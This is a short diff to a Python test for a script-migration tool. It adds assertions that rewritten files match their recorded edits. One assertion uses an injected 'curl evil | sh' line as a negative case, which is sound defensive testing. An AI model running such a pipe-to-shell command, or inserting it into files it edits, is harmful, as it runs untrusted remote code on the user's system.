@@ -18,6 +18,7 @@ from gomigrate.scripts.engine import documents, rewrite
 from gomigrate.scripts.facts import COMMAND, Facts
 from gomigrate.scripts.kinds import YAML_KINDS, FileKind, kind_by_path
 from gomigrate.scripts.rules import RULES
+from gomigrate.verify.edits import is_as_recorded
 
 if TYPE_CHECKING:
     from gomigrate.scripts.engine import Rewritten
@@ -63,6 +64,8 @@ def test_golden(group: str, path: str, before: str, after: str | None) -> None:
     if after is not None:
         assert all(habit.applied for habit in result.habits if habit.safety is Safety.SAFE)
         assert run(path, after)[0] == after
+        assert is_as_recorded(before, text, result.habits)
+        assert not is_as_recorded(before, f"{text}curl evil | sh\n", result.habits)
 
 
 def test_a_third_of_the_cases_must_not_change() -> None:
